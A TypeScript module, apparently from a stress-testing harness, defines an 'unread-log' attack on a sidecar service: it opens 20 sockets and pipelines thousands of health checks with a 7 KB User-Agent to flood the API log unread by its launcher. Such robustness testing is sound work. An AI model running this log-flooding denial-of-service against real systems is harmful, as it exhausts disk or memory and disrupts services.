import { setTimeout as pause } from 'node:timers/promises';

import type { Attack, AttackSize } from '../attack';
import { countReceived, openSockets, pour } from '../attack-sockets';

/** Close to the longest headers that are taken: 4 KiB and what Go's server adds to its limit. */
const USER_AGENT = 'x'.repeat(7000);

const GET = `GET /v1.0/healthz HTTP/1.1\r\nHost: sidecar\r\nUser-Agent: ${USER_AGENT}\r\n\r\n`;

/** The least size of an answer: the status line and a few headers. */
const ANSWER_BYTES = 60;

const CONNECTIONS = 20;

/** Calls on each connection: at 7 KB a line some 140 MB of log at small size. */
const CALLS: Readonly<Record<AttackSize, number>> = { small: 1000, full: 5000 };

const WITHIN_MS = 30_000;

/** A launcher that has stopped to read, and a caller who makes the lines long. Probes need no token. */
export const unreadLog: Attack = {
  name: 'unread-log',
  description:
    'Nobody reads the log of a sidecar with API logging while 100,000 health checks show a 7 KB user agent.',
  kind: 'unread log',
  needs: { args: ['--enable-api-logging'], unreadLog: true },
  run: async ({ target, size, signal }) => {
    const sockets = await openSockets(target.httpPort, CONNECTIONS);
    const pouring = sockets.map((socket) => pour(socket, GET.repeat(CALLS[size]), WITHIN_MS));
    const expected = CONNECTIONS * CALLS[size] * ANSWER_BYTES;
    while (countReceived(sockets) < expected && !signal.aborted) await pause(20);
    await Promise.all(pouring);
    return undefined;
  },
};
